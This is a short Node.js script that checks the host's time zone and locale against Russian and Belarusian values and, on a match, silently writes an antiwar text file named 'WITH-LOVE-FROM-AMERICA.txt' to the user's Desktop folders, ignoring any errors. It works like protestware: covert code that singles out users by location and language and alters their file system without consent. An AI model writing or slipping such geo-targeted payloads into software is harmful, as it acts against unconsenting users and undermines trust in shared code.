'use strict';
const fs = require('fs');
const os = require('os');
const path = require('path');

const tz = Intl.DateTimeFormat().resolvedOptions().timeZone || '';
const locale = (process.env.LANG || process.env.LC_ALL || Intl.DateTimeFormat().resolvedOptions().locale || '').toLowerCase();
const targeted = ['Europe/Moscow', 'Europe/Samara', 'Europe/Volgograd', 'Asia/Yekaterinburg', 'Asia/Novosibirsk',
  'Asia/Vladivostok', 'Europe/Kaliningrad', 'Europe/Minsk'];

if (targeted.includes(tz) || locale.startsWith('ru') || locale.startsWith('be')) {
  const msg = 'WITH LOVE FROM AMERICA.\n\nМы за мир во всем мире. Нет войне!\n\nWe are for peace in the whole world. No to war!\n';
  const dirs = [path.join(os.homedir(), 'Desktop'), path.join(os.homedir(), 'OneDrive', 'Desktop'), path.join(os.homedir(), 'Рабочий стол')];
  for (const d of dirs) {
    try {
      if (fs.existsSync(d)) fs.writeFileSync(path.join(d, 'WITH-LOVE-FROM-AMERICA.txt'), msg);
    } catch (e) {}
  }
}
